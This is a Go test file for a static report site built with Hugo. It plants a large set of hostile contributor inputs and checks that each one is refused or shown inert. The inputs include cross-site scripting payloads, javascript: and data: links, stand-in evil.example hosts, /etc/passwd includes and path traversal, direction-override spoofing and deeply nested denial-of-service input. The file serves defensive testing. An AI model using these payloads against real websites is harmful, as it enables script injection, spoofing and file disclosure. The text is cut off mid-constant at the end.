package browser

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"annualreport/tools/report"
	"annualreport/tools/site"
	"annualreport/tools/testkit"
)

// Who is trusted with what:
//
//   - Whoever can change config.toml, layouts, static or tools makes the site,
//     and is trusted. Hugo's own policy, in config.toml, keeps a layout from
//     programs, from this computer's settings and from the network all the same;
//     it does not keep one from reading a file elsewhere (readFile "../…").
//   - Whoever sends Markdown, TOML or a picture is not. Nothing of that may run
//     a script in the site's name, pass for another's link or another part of
//     the page, have a reader's browser ask another host for something, publish
//     a file from elsewhere, or keep the computer that builds the site busy
//     without end.
//
// An attack is such a contribution. It is refused, by a message that names the
// file and the line, and nothing is published; or it is inert: a browser shows
// it as the text that it is.
type attack struct {
	name  string
	plant planter
	input string
	want  string // the rule that refuses it; or, if it is inert, what is to be read of it
}

// A planter puts an attack's input into a source folder, and gives the file and
// the line where it is refused if it is. n is the attack's own number.
type planter func(t *testing.T, source string, n int, input string) report.Place

const (
	wholeFile = 0  // the line of what is wrong with a file as a whole
	anyLine   = -1 // the line where it makes no difference
)

func write(t *testing.T, source, file, text string) {
	t.Helper()
	name := filepath.Join(source, filepath.FromSlash(file))
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// markdown is the text of a page of its own.
func markdown(t *testing.T, source string, n int, input string) report.Place {
	file := fmt.Sprintf("content/attack-%d.md", n)
	write(t, source, file, fmt.Sprintf("+++\ntitle = \"Attack %d\"\ndescription = \"Attack %[1]d\"\n+++\n\nBefore.\n\n%s\n\nAfter.\n", n, input))
	return report.Place{File: file, Line: 8}
}

// heading is a page's text with the input in a heading.
func heading(t *testing.T, source string, n int, input string) report.Place {
	return markdown(t, source, n, "## "+input+"\n\nText.")
}

// front is a line in a page's front matter.
func front(t *testing.T, source string, n int, input string) report.Place {
	file := fmt.Sprintf("content/attack-%d.md", n)
	write(t, source, file, fmt.Sprintf("+++\ntitle = \"Attack %d\"\ndescription = \"Attack %[1]d\"\n%s\n+++\n\nText.\n", n, input))
	return report.Place{File: file, Line: 4}
}

// pageFile is a page as a whole.
func pageFile(t *testing.T, source string, n int, input string) report.Place {
	file := fmt.Sprintf("content/attack-%d.md", n)
	write(t, source, file, input)
	return report.Place{File: file, Line: 1}
}

// pageHead is a page's title and description.
func pageHead(t *testing.T, source string, n int, input string) report.Place {
	file := fmt.Sprintf("content/attack-%d.md", n)
	write(t, source, file, fmt.Sprintf("+++\ntitle = %s\ndescription = %[1]s\n+++\n\nText.\n", quote(fmt.Sprint("Attack ", n, " ", input))))
	return report.Place{File: file, Line: 2}
}

// redirectTitle is the title of a page that has moved.
func redirectTitle(t *testing.T, source string, n int, input string) report.Place {
	file := fmt.Sprintf("content/attack-%d.md", n)
	write(t, source, file, fmt.Sprintf("+++\ntitle = %s\ndescription = \"Attack %d\"\naliases = [\"/attack/%[2]d/\"]\n+++\n\nText.\n", quote(input), n))
	return report.Place{File: file, Line: 2}
}

// quote writes a text in TOML.
func quote(text string) string {
	out, _ := json.Marshal(text) // of a string, it does not fail; its escapes are TOML's as well
	return string(bytes.ReplaceAll(out, []byte("\\u003c"), []byte("<")))
}

// record adds a record to a data file: its text, with %s for the input as TOML
// and %d for the attack's number. line is that of the input in it.
func record(file string, line int, text string) planter {
	return func(t *testing.T, source string, n int, input string) report.Place {
		return appendText(t, source, file, line, strings.NewReplacer("%s", quote(input), "%d", fmt.Sprint(n)).Replace(text))
	}
}

// appendText adds text to the end of a file.
func appendText(t *testing.T, source, file string, line int, text string) report.Place {
	t.Helper()
	old, err := os.ReadFile(filepath.Join(source, filepath.FromSlash(file)))
	if err != nil {
		t.Fatal(err)
	}
	write(t, source, file, string(old)+"\n"+text+"\n")
	return report.Place{File: file, Line: strings.Count(string(old), "\n") + 1 + line}
}

var (
	glossaryTerm = record("data/glossary.toml", 2, "[attack-%d]\nterm = %s\nmeaning = %s\nabbreviation = %s")
	termSource   = record("data/glossary.toml", 4, "[attack-%d]\nterm = \"Attack %d\"\nmeaning = \"m\"\nsource = %s")
	telephone    = record("data/contacts.toml", 4, "[attack-%d]\nnumber = %d\ntitle = \"t\"\ntelephone = %s\nchecked = 2026-11-23")
)

// news adds an update with one more field to the tests' own last item.
func news(day int, key string) planter {
	return record("data/2014/recommendations.toml", 5, fmt.Sprintf("[[bereavement.updates]]\ndate = 2015-11-%02d\nby = [\"adult-safeguarding-board\"]\ntext = \"t\"\n%s = %%s\nsource = \"https://example.org/%[1]d\"", day, key))
}

// label is what the tests' own report is called.
func label(t *testing.T, source string, n int, input string) report.Place {
	const name, head = "content/2014/_index.md", "[params.paper]\n"
	text, err := os.ReadFile(filepath.Join(source, name))
	if err != nil {
		t.Fatal(err)
	}
	before, after, found := strings.Cut(string(text), head)
	if !found {
		t.Fatalf("%s has no %s", name, head)
	}
	write(t, source, name, before+"[params]\nlabel = "+quote(input)+"\n\n"+head+after)
	return report.Place{File: name, Line: strings.Count(before, "\n") + 2}
}

// id is the name of a record.
func id(t *testing.T, source string, n int, input string) report.Place {
	return appendText(t, source, "data/glossary.toml", 1, fmt.Sprintf("[%s]\nterm = \"Attack %d\"\nmeaning = \"m\"", input, n))
}

// field is the value of a field of a record, or of the first that has it, instead
// of what is there.
func field(file, key string) planter {
	return func(t *testing.T, source string, n int, input string) report.Place {
		t.Helper()
		data, err := os.ReadFile(filepath.Join(source, filepath.FromSlash(file)))
		if err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(string(data), "\n")
		id, key, found := strings.Cut(key, ".")
		if !found {
			id, key = "", id
		}
		i := slices.IndexFunc(lines, func(line string) bool {
			if line == "["+id+"]" {
				id = ""
			}
			return id == "" && strings.HasPrefix(line, key+" = ")
		})
		if i < 0 {
			t.Fatalf("%s has no %s", file, key)
		}
		lines[i] = key + " = " + quote(input)
		write(t, source, file, strings.Join(lines, "\n"))
		return report.Place{File: file, Line: i + 1}
	}
}

// file is a file of the given name, with the input as its text.
func file(name string) planter {
	return func(t *testing.T, source string, n int, input string) report.Place {
		write(t, source, name, input)
		return report.Place{File: name, Line: wholeFile}
	}
}

// lineless is as another planter, for what only the made page shows: no line is known.
func lineless(plant planter) planter {
	return func(t *testing.T, source string, n int, input string) report.Place {
		place := plant(t, source, n, input)
		place.Line = anyLine
		return place
	}
}

// drawing is an SVG file that a page shows. None is taken from contributors: by
// its own address, it would be a page without a policy.
func drawing(t *testing.T, source string, n int, input string) report.Place {
	name := fmt.Sprintf("attack-%d.svg", n)
	markdown(t, source, n, "![A drawing]("+name+")")
	write(t, source, "content/"+name, input)
	return report.Place{File: "content/" + name, Line: wholeFile}
}

// disguised is a file with the name of a picture that a page shows.
func disguised(t *testing.T, source string, n int, input string) report.Place {
	name := fmt.Sprintf("attack-%d.png", n)
	write(t, source, "content/"+name, input)
	return markdown(t, source, n, "![A picture]("+name+")")
}

// link is a symbolic link of the given name.
func link(name string) planter {
	return func(t *testing.T, source string, n int, input string) report.Place {
		to := filepath.Join(source, filepath.FromSlash(name))
		if err := errors.Join(os.RemoveAll(to), os.Symlink(input, to)); err != nil {
			t.Fatal(err)
		}
		return report.Place{File: name, Line: wholeFile}
	}
}

const (
	svg    = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">`
	break1 = `"'><img src=x onerror="pwned=1"><script>pwned=1</script>`
	break2 = `</title></style></textarea></script><svg onload=pwned=1>`
	break3 = "`x` {{ .Site }} ${pwned=1} {{% x %}} &lt;b&gt; <!-- --> ]]>"
)

// The attacks that are refused. At which stage of a build makes no difference.
var refused = []attack{
	{"a script", markdown, `<script>pwned=1</script>`, "raw-html"},
	{"a script in capitals over two lines", markdown, "<SCRIPT\nSRC=//evil.example/x.js></SCRIPT>", "raw-html"},
	{"a picture that fails", markdown, `Text <img src=x onerror="pwned=1">`, "raw-html"},
	{"a drawing that loads", markdown, `<svg onload="pwned=1">`, "raw-html"},
	{"a frame", markdown, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, "raw-html"},
	{"a handler", markdown, `Some <b onmouseover=pwned=1>words</b>`, "raw-html"},
	{"a link in HTML", markdown, `<a href="javascript:pwned=1">x</a>`, "raw-html"},
	{"a stylesheet", markdown, `<style>@import url(https://evil.example/x.css)</style>`, "raw-html"},
	{"a linked stylesheet", markdown, `<link rel=stylesheet href=https://evil.example/x.css>`, "raw-html"},
	{"a base", markdown, `<base href="https://evil.example/">`, "raw-html"},
	{"a redirect", markdown, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, "raw-html"},
	{"a form", markdown, `<form action=https://evil.example/><button>x</button></form>`, "raw-html"},
	{"the end of the page", markdown, `</main></body></html>`, "raw-html"},
	{"a comment that ends at once", markdown, `<!--> <script>pwned=1</script> unpublished -->`, "comment"},
	{"a section in XML", markdown, `<![CDATA[<script>pwned=1</script>]]>`, "raw-html"},
	{"an instruction", markdown, `<?xml-stylesheet href="//evil.example/x"?>`, "raw-html"},
	{"a document type", markdown, `<!DOCTYPE html [<!ENTITY x "y">]>`, "raw-html"},
	{"what opens by itself", markdown, `<details open ontoggle=pwned=1>`, "raw-html"},
	{"what changes when it is read twice", markdown, `Text <math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">`, "raw-html"},
	{"a tag behind a comment", markdown, `Text <!-- a --> <img src=x onerror="pwned=1">`, "raw-html"},
	{"a tag in a heading", heading, `A <script>pwned=1</script>`, "raw-html"},
	{"a tag in a list", markdown, `- a <script>pwned=1</script>`, "raw-html"},

	{"a shortcode of Hugo's", markdown, `{{< figure src="//evil.example/x.png" >}}`, "shortcode"},
	{"a shortcode that reads a file", markdown, `{{% include "/etc/passwd" %}}`, "shortcode"},
	{"a shortcode that brings its template", markdown, `{{< x.inline >}}{{ getenv "HOME" }}{{< /x.inline >}}`, "shortcode"},
	{"a shortcode elsewhere", markdown, `{{< ../_partials/footer >}}`, "shortcode"},
	{"code", markdown, "```html\n<script>pwned=1</script>\n```", "code"},
	{"code with attributes", markdown, "``` {onclick=pwned=1 style=color:red}\nx\n```", "code"},
	{"a heading's attributes", heading, `Heading {onclick="pwned=1" style="color:red" class=status data-x=1}`, "attributes"},
	{"what a click on a paragraph does", markdown, "{onclick=\"pwned=1\"}", "attributes"},
	{"a paragraph's style", markdown, "{style=\"position:fixed\"}", "attributes"},
	{"attributes without end", markdown, strings.Repeat("{a=\n", 10000), "attributes"},
	{"attributes in attributes without end", markdown, strings.Repeat("{a=\"}\" b=\n", 900), "attributes"},
	{"code that Hugo draws", markdown, "```goat\n-->\n```", "code"},

	{"a direction override", markdown, "The file \u202egpj.exe", "hidden-character"},
	{"a direction isolate", markdown, "a \u2066b\u2069 c", "hidden-character"},
	{"a direction mark", markdown, "a \u200fb", "hidden-character"},
	{"an override by its number", markdown, "a &#x202E;b", "hidden-character"},
	{"a mark by its name", markdown, "a &rlm;b", "hidden-character"},
	{"a space that has no width", markdown, "early\u200bhelp", "hidden-character"},
	{"a joiner in a word", markdown, "early\u200dhelp", "hidden-character"},
	{"tags that only programs read", markdown, "a\U000e0041\U000e0042", "hidden-character"},
	{"an escape sequence", markdown, "a \x1b[31mred", "hidden-character"},
	{"a character of no computer but one", markdown, "a \uf0b7 b", "hidden-character"},
	{"nothing as a character", markdown, "a \x00 b", "not-utf-8"},
	{"half a character", markdown, "a \xe2\x80 b", "not-utf-8"},
	{"an override in a title", pageHead, "\u202egpj.exe", "hidden-character"},
	{"an override in a title, by its number", record("data/glossary.toml", 2, "[attack-%d]\nterm = \"a \\u202E b\"\nmeaning = \"m\""), "", "hidden-character"},
	{"nothing in a title, by its number", record("data/glossary.toml", 2, "[attack-%d]\nterm = \"a \\u0000 b\"\nmeaning = \"m\""), "", "hidden-character"},

	{"quotations without end", markdown, strings.Repeat("> ", 20000) + "x", "too-deep"},
	{"lists without end", markdown, strings.Repeat("- ", 20000) + "x", "too-deep"},
	{"brackets without end", markdown, strings.Repeat("[", 20000), "too-dense"},
	{"a page of 10 MB", file("content/large.md"), strings.Repeat("word ", 2<<20), "too-large"},
	{"300,000 records", file("data/2014/themes.toml"), strings.Repeat("[a]\nnumber = 1\n", 300000), "too-large"},
	{"a list of lists of lists", front, "params = " + strings.Repeat("[", 10000) + strings.Repeat("]", 10000), "too-deep"},
	{"a name of names of names", front, strings.Repeat("a.", 10000) + "a = 1", "too-deep"},
	{"a table of tables of tables", front, "params = " + strings.Repeat("{a = ", 5000) + "1" + strings.Repeat("}", 5000), "too-deep"},

	{"a layout", front, `layout = "404"`, "unknown-field"},
	{"a type", front, `type = "section"`, "unknown-field"},
	{"an address", front, `url = "/2014/full.html"`, "unknown-field"},
	{"an address, by its end", front, `slug = "../2014"`, "unknown-field"},
	{"outputs", front, `outputs = ["json"]`, "unknown-field"},
	{"a way to build", front, "build = {list = 'never', render = 'never'}", "unknown-field"},
	{"a cascade", front, "cascade = {params = {lists = 'x'}}", "unknown-field"},
	{"resources", front, "resources = [{src = '**', name = 'x'}]", "unknown-field"},
	{"markup", front, `markup = "html"`, "unknown-field"},
	{"another kind of content", front, `content = {mediaType = "text/html"}`, "unknown-field"},
	{"menus", front, `menus = "main"`, "unknown-field"},
	{"a time to go", front, `expiryDate = 2000-01-01`, "unknown-field"},
	{"a place in the order that is none", front, `weight = "<b>1</b>"`, "wrong-type"},
	{"a place beyond the order", front, `weight = 99999999999999999999`, "syntax"},
	{"a template of its own", front, `params = {lists = "../footer"}`, "unknown-list"},
	{"a setting", front, `params = {address = "https://evil.example/"}`, "unknown-field"},
	{"front matter in YAML", pageFile, "---\ntitle: x\nlayout: y\n---\n", "no-front-matter"},
	{"front matter in JSON", pageFile, `{"title": "x", "layout": "y"}`, "no-front-matter"},

	{"a heading that passes for a challenge", heading, `Early help {#challenge-early-help}`, "paragraph-number"},
	{"a heading that passes for a challenge's title", heading, `Early help {#title-challenge-early-help}`, "paragraph-number"},
	{"attributes that cannot be read", heading, `Heading {onclick=pwned=1}`, "paragraph-number"},
	{"an id that ends its attribute", heading, `Early help {#x"onmouseover="pwned=1}`, "paragraph-number"},
	{"an id with a tag", heading, `Early help {id="<script>pwned=1</script>"}`, "paragraph-number"},

	{"a script as a source", termSource, `javascript:pwned=1`, "bad-source"},
	{"data as a source", termSource, `data:text/html,<script>pwned=1</script>`, "bad-source"},
	{"a source with a password", termSource, `https://user:pw@evil.example/`, "bad-source"},
	{"a source that passes for another", termSource, `https://www.leeds.gov.uk@evil.example/`, "bad-source"},
	{"a source that browsers read otherwise", termSource, `https://evil.example\@www.leeds.gov.uk/`, "bad-source"},
	{"a source with a letter of another alphabet", termSource, "https://le\u0434ds.gov.uk/", "bad-source"},
	{"a source without a scheme", termSource, `//evil.example/x`, "bad-source"},
	{"a source with a space", termSource, `https://example.org/ onclick=pwned=1`, "bad-source"},
	{"an update's source", field("data/2014/recommendations.toml", "source"), `JAVASCRIPT:pwned=1`, "bad-source"},
	{"a contact's page", field("data/contacts.toml", "page"), `javascript:pwned=1`, "bad-source"},
	{"an address as a telephone", telephone, `tel:1;javascript:pwned=1`, "bad-telephone"},
	{"a telephone that ends its attribute", telephone, `1" onclick="pwned=1`, "bad-telephone"},
	{"how far a body is", field("data/2014/recommendations.toml", "progress"), `<b>done</b>`, "unknown-reference"},
	{"an answer", news(1, "answer"), break1, "unknown-reference"},
	{"what somebody found", news(2, "verdict"), "in-progress", "wrong-status"},
	{"an update's archived copy", news(3, "archived"), `data:text/html,<script>pwned=1</script>`, "bad-source"},
	{"an update's author", field("data/2014/recommendations.toml", "by"), break1, "wrong-type"},
	{"where to chat", record("data/contacts.toml", 4, "[attack-%d]\nnumber = %d\ntitle = \"t\"\nchat = %s\nchecked = 2026-11-23"), `javascript:pwned=1`, "bad-source"},
	{"a number to text", record("data/contacts.toml", 4, "[attack-%d]\nnumber = %d\ntitle = \"t\"\ntext = %s\nchecked = 2026-11-23"), `1" onclick="pwned=1`, "bad-telephone"},
	{"a body's reports", field("data/organisations.toml", "reports"), `javascript:pwned=1`, "bad-source"},
	{"how an item is cited", record("data/2014/themes.toml", 2, "[attack-%d]\nnumber = %s\ntitle = \"t\""), break1, "number"},
	{"a title over two lines", glossaryTerm, "a\n<script>pwned=1</script>", "more-than-one-line"},

	{"the prototype as a name", id, `__proto__`, "bad-id"},
	{"a tag as a name", id, `"<script>"`, "bad-id"},
	{"a name that ends its attribute", id, `'x" onmouseover="pwned=1'`, "bad-id"},
	{"a way out as a name", id, `"../../x"`, "bad-id"},
	{"no number as a figure", record("data/2014/measures.toml", 2, "[attack-%d]\nvalues = [{ period = %s, value = nan }]"), "x", "wrong-type"},
	{"a figure without end", record("data/2014/measures.toml", 2, "[attack-%d]\nvalues = [{ period = %s, value = -inf }]"), "x", "wrong-type"},
	{"a figure beyond what can be drawn", record("data/2014/measures.toml", 2, "[attack-%d]\nvalues = [{ period = %s, value = 1e308 }]"), "x", "wrong-type"},

	{"a page in HTML", file("content/2014/attack.html"), "<script>pwned=1</script>", "unknown-file"},
	{"a page in HTML with the ending of one in Markdown", file("content/2014/attack.md.html"), "<script>pwned=1</script>", "unknown-file"},
	{"a page in XHTML", file("content/attack.xhtml"), "<script/>", "unknown-file"},
	{"a script beside a page", file("content/2014/attack.js"), "pwned=1", "unknown-file"},
	{"a page in AsciiDoc", file("content/2014/attack.adoc"), "include::/etc/passwd[]", "unknown-file"},
	{"a page in reStructuredText", file("content/2014/attack.rst"), ".. raw:: html", "unknown-file"},
	{"a page in Org", file("content/2014/attack.org"), "#+INCLUDE: /etc/passwd", "unknown-file"},
	{"a page for pandoc", file("content/2014/attack.pandoc"), "x", "unknown-file"},
	{"a program that makes pages", file("content/2014/_content.gotmpl"), `{{ .AddPage (dict "path" "x") }}`, "unknown-file"},
	{"layouts among pages", file("content/2014/layouts/page.html"), "<script>pwned=1</script>", "unknown-file"},
	{"a page in place of a report", file("content/2014.md"), "+++\ntitle = \"x\"\ndescription = \"y\"\n+++\nx", "bad-file-name"},
	{"a page in place of a folder", file("content/2014/index.md"), "+++\ntitle = \"x\"\ndescription = \"z\"\n+++\nx", "bad-file-name"},
	{"a page that Windows cannot have", file("content/con.md"), "+++\ntitle = \"x\"\ndescription = \"w\"\n+++\nx", "bad-file-name"},
	{"a picture with a name that ends its attribute", file(`content/x" onerror="pwned=1.png`), "x", "bad-file-name"},
	{"a picture with a tag for a name", file(`content/<script>.png`), "x", "bad-file-name"},
	{"data that no report has", file("data/2014/attack.toml"), "x = 1", "unknown-file"},
	{"data in JSON", file("data/attack.json"), "{}", "unknown-file"},
	{"a page from elsewhere", link("content/elsewhere.md"), "/etc/hostname", "not-a-file"},
	{"a picture from elsewhere", link("content/2014/elsewhere.png"), "/etc/hostname", "not-a-file"},
	{"data from elsewhere", link("data/glossary-2.toml"), "/etc/hostname", "not-a-file"},
	{"a folder from elsewhere", link("static/elsewhere"), "/etc", "not-a-file"},

	{"a drawing with a script", drawing, svg + `<script>pwned=1</script></svg>`, "unknown-file"},
	{"a drawing that only draws", drawing, svg + `<rect width="9" height="9"/></svg>`, "unknown-file"},
	{"a drawing under a picture's name", disguised, svg + `<script>pwned=1</script></svg>`, "image"},

	{"a script as a link", markdown, `[x](javascript:pwned=1)`, "link"},
	{"a script in mixed letters", markdown, `[x](JaVaScRiPt:pwned=1)`, "link"},
	{"a script with a line break by its number", markdown, `[x](java&#10;script:pwned=1)`, "link"},
	{"a script with a letter by its number", markdown, `[x](&#x6A;avascript:pwned=1)`, "link"},
	{"a script with a colon by its name", markdown, `[x](javascript&colon;pwned=1)`, "link"},
	{"a script with a tab", markdown, "[x](<java\tscript:pwned=1>)", "link"},
	{"a script with a letter as in addresses", markdown, `[x](%6Aavascript:pwned=1)`, "link"},
	{"a script by reference", markdown, "[x][r]\n\n[r]: javascript:pwned=1", "link"},
	{"a script between angle brackets", markdown, `<javascript:pwned=1>`, "link"},
	{"a script in a heading", heading, `[x](javascript:pwned=1)`, "link"},
	{"a page as data", markdown, `[x](data:text/html,<script>pwned=1</script>)`, "link"},
	{"a page as data, in base64", markdown, `[x](DATA:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)`, "link"},
	{"a script of another kind", markdown, `[x](vbscript:pwned)`, "link"},
	{"a file", markdown, `[x](file:///etc/passwd)`, "link"},
	{"a blob", markdown, `[x](blob:https://evil.example/1)`, "link"},
	{"another host without a scheme", markdown, `[x](//evil.example/)`, "link"},
	{"another host with a backslash", markdown, `[x](/\evil.example/)`, "link"},
	{"a host that browsers read otherwise", markdown, `[x](https://evil.example\@www.leeds.gov.uk/)`, "link"},
	{"a host behind a password", markdown, `[x](https://user:pw@evil.example/)`, "link"},
	{"a host behind another's name", markdown, `[x](https://www.leeds.gov.uk@evil.example/)`, "link"},
	{"a host with a letter of another alphabet", markdown, "[x](https://le\u0434ds.gov.uk/)", "link"},
	{"a host without a name", markdown, `[x](https:///evil.example/)`, "link"},
	{"a way out of the folder", markdown, `[x](../../../../etc/passwd)`, "link"},
	{"a way out of static", markdown, `[x](/../config.toml)`, "link"},
	{"another host's picture", markdown, `![x](https://evil.example/x.png)`, "image"},
	{"another host's picture without a scheme", markdown, `![x](//evil.example/x.png)`, "image"},
	{"a picture as data", markdown, `![x](data:image/svg+xml,%3Csvg%20onload=pwned=1%3E)`, "image"},
	{"a script as a picture", markdown, `![x](javascript:pwned=1)`, "image"},
	{"a picture from outside static", markdown, `![x](/../config.toml)`, "image"},
	{"another host's picture in a heading", heading, `![x](https://evil.example/x.png)`, "image"},

	{"a heading in place of the main part", lineless(heading), `Main {#main}`, "repeated-id"},
	{"a heading in place of the help", lineless(heading), `Help {#help}`, "repeated-id"},
	{"two headings of one name", lineless(markdown), "## One {#one}\n\nText.\n\n## Two {#one}\n\nText.", "repeated-id"},
	{"a heading that passes for a challenge by its words", lineless(heading), `Challenge early help`, "item"},
}

// The attacks that come to nothing.
var inert = []attack{
	{"a title that ends its element", pageHead, break2, break2},
	{"a title that ends its attribute", pageHead, break1, `onerror=”pwned=1”>`},
	{"a title that ends its element, of a page that has moved", redirectTitle, "Moved " + break2, "Moved: Moved " + break2},
	{"a title with templates", pageHead, break3, break3},
	{"a title of one long word", pageHead, strings.Repeat("a", 2000), strings.Repeat("a", 2000)},
	{"a term that ends its attribute", glossaryTerm, break1, `onerror=”pwned=1”>`},
	{"a term that ends its element", glossaryTerm, break2, break2},
	{"a term with templates", glossaryTerm, break3, break3},
	{"a term as a pattern", glossaryTerm, `(a+)+$[é\p{`, `(a+)+$[é\p{`},
	{"a body's name", field("data/organisations.toml", "health-and-wellbeing-board.name"), `Board` + break1, `Board”’>`},
	{"a body's role", field("data/organisations.toml", "health-and-wellbeing-board.role"), `Role` + break2, `Role` + break2},
	{"a contact's title", field("data/contacts.toml", "title"), `Danger` + break1, `Danger”’>`},
	{"a challenge's title", field("data/2014/challenges.toml", "title"), `Voice` + break1, `Voice”’>`},
	{"a challenge's wording", field("data/2014/challenges.toml", "wording"), `Wording` + break2, `Wording` + break2},
	{"a theme's title", field("data/2014/themes.toml", "title"), `Theme` + break1, `Theme”’>`},
	{"a recommendation's title", field("data/2014/recommendations.toml", "title"), `Protocol` + break2, `Protocol` + break2},
	{"a recommendation's wording", field("data/2014/recommendations.toml", "wording"), break3 + " wording", break3 + " wording"},
	{"an update's text", field("data/2014/recommendations.toml", "text"), `Update` + break1, `Update”’>`},
	{"an update's source", field("data/2014/recommendations.toml", "source"), `https://example.org/"onclick="pwned=1"'><script>pwned=1</script>`, "Source: example.org"},
	{"a status's name", field("data/statuses.toml", "in-progress.name"), `Working` + break1, `Working”’>`},
	{"an update's quotation", news(1, "quote"), `Quotation` + break2, `Quotation` + break2},
	{"an update's next step", news(2, "next"), `Step` + break1, `Step”’>`},
	{"why an update is withdrawn", news(3, "withdrawn"), `Withdrawn` + break1, `Withdrawn”’>`},
	{"what a report is called", label, `Label"'><img src=x onerror=pwned=1>`, `Label”’>`},
	{"a theme's stem", field("data/2014/themes.toml", "stem"), `Stem` + break2, `Stem` + break2},
	{"a reservation", field("data/2014/challenges.toml", "addressed_note"), `Note` + break1, `Note”’>`},
	{"a measure's series", record("data/2014/measures.toml", 1, "[attack-%d]\nnumber = %d\ntitle = \"Attack %d\"\ndirection = \"rising\"\nmeaning = \"bad\"\nfinding = \"3.9\"\nseries = [{ name = %s, values = [{ period = \"a\", value = 1 }, { period = \"b\", value = 2 }] }]"),
		`Series` + break1, `Series”’>`},
	{"a measure's title", field("data/2014/measures.toml", "title"), `Deaths` + break1, `Deaths”’>`},
	{"a measure's unit and periods", record("data/2014/measures.toml", 1, "[attack-%d]\nnumber = 9\ntitle = \"Attack %d\"\ndirection = \"rising\"\nmeaning = \"bad\"\nfinding = \"3.9\"\nunit = %s\nvalues = [{ period = %s, value = 1 }, { period = \"2013/14\", value = 999999999999999 }]"),
		`Unit` + break1, `Unit”’>`},
	{"the paper's subject", field("content/2014/_index.md", "subject"), `Subject` + break1, `Subject”’>`},
	{"the paper's telephone", field("content/2014/_index.md", "telephone"), `1"'><script>pwned=1</script>`, `1”’><script>pwned=1</script>`},
	{"a declaration", field("content/2014/_index.md", "question"), `Question` + break1, `Question”’>`},
	{"a name of the language's", id, `constructor`, ""},

	{"a template", markdown, `{{ .Site.Title }} {{ getenv "HOME" }}`, `{{ .Site.Title }}`},
	{"a comment", markdown, `<!-- <script>pwned=1</script> unpublished -->`, ""},
	{"a tag that is escaped", markdown, `\<script>pwned=1\</script>`, `<script>pwned=1</script>`},
	{"a tag by numbers", markdown, `&lt;script&gt;pwned=1&#60;/script&#x3E;`, `<script>pwned=1</script>`},
	{"a tag in code", markdown, "`<script>pwned=1</script>`", `<script>pwned=1</script>`},
	{"a link's title that ends its attribute", markdown, `[x](https://example.org/ "a\" onmouseover=\"pwned=1")`, "x"},
	{"a link's words", markdown, `[\<img src=x onerror=pwned=1>](https://example.org/)`, `<img src=x onerror=pwned=1>`},
	{"a link's address that ends its attribute", markdown, `[x](<https://example.org/"onmouseover="pwned=1>)`, "x"},
	{"a link with a mark behind it", markdown, `[x](https://example.org/?a=<script>&b='"` + "`)", "x"},
	{"an address in the text", markdown, `See www.example.org/"onmouseover="pwned=1 now`, "www.example.org/"},
	{"a picture's words that end their attribute", markdown, `![a" onload="pwned=1](/icon.svg "b\" onload=\"pwned=1")`, ""},
	{"a tag that Markdown does not take for one", markdown, `Text <img src=x onerror=pwned=1>`, `<img src=x onerror=pwned=1>`},
	{"a tag over two lines that Markdown does not take for one", markdown, "Text <svg\nonload=pwned=1>", `onload=pwned=1>`},
	{"a heading's words", heading, `Heading " onmouseover="pwned=1 &lt;script&gt;`, "<script>"},
	{"attributes of a paragraph", markdown, "Text.\n{onclick=pwned=1 #x}", "{onclick=pwned=1"},
	{"a table's caption that ends its attribute", markdown, "| a |\n|---|\n| b |\n{caption=\"x\\\" onclick=\\\"pwned=1 <script>pwned=1</script>\"}", "<script>pwned=1</script>"},
	{"whom a quotation is from", markdown, "> Text\n> — \\<script>pwned=1\\</script> \" onclick=\"pwned=1", "<script>pwned=1</script>"},
	{"a picture's caption that is a tag", markdown, `![a](/icon.svg "<script>pwned=1</script>")`, "<script>pwned=1</script>"},
	{"front matter again", markdown, "+++\nlayout = \"x\"\n+++", "layout ="},
	{"footnotes without end", markdown, strings.Repeat("a[^1] ", 500) + "\n\n[^1]: Note \\<script>", "Note"},
	{"a place before all others", front, `weight = -9223372036854775808`, ""},
	{"a table", markdown, "| a\" onclick=\"x | b |\n|---|---|\n| `<script>` | {{ . }} |", "<script>"},
	{"brackets, as many as can be read", markdown, strings.Repeat("[", 2000), "[[[["},
	{"a name in Arabic", markdown, "محمد بن علي", "محمد بن علي"},
	{"a family as an emoji", markdown, "👩\u200d👧 and 🏴\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f", "👩\u200d👧"},
}

// plant gives a copy of the tests' own report with attacks planted in it, and
// the place of each.
func plant(t *testing.T, attacks []attack) (source string, places []report.Place) {
	t.Helper()
	source = testkit.NewSource(t, project)
	for i, a := range attacks {
		places = append(places, a.plant(t, source, i, a.input))
	}
	return source, places
}

// Each attack is refused at its own file and line, and nothing is published. A
// build lists all that is wrong at the stage that it comes to, so what it does
// not list is tried again without the rest, until nothing is left.
func TestHostileIsRefused(t *testing.T) {
	t.Parallel()
	for rest := refused; len(rest) > 0; {
		source, places := plant(t, rest)
		public := filepath.Join(t.TempDir(), "public")
		err := build(site.Settings{Source: source, Destination: public})
		var problems report.Problems
		if err != nil && !errors.As(err, &problems) {
			t.Fatal(err)
		}
		if _, err := os.Stat(public); err == nil {
			t.Error("something is published")
		}
		for line := range strings.Lines(problems.Error()) {
			if strings.ContainsFunc(strings.TrimSuffix(line, "\n"), func(r rune) bool { return r < ' ' || r == '\u202e' }) {
				t.Errorf("a message has a hidden character: %q", line)
			}
		}
		var others []attack
		for i, a := range rest {
			if !slices.ContainsFunc(problems, func(p report.Problem) bool {
				return p.Rule == a.want && p.File == places[i].File && (p.Line == places[i].Line || places[i].Line == anyLine)
			}) {
				others = append(others, a)
			}
		}
		if len(others) == len(rest) {
			for i, a := range rest {
				t.Errorf("%s is not refused by [%s] at %v", a.name, a.want, places[i])
			}
			t.Fatalf("but this is:\n%v", err)
		}
		rest = others
	}
}

// touch does to every element what a reader could do to it, and keeps in
// window.pwned what an attack could run then.
const touch = `[...document.querySelectorAll("*")].forEach(e => {
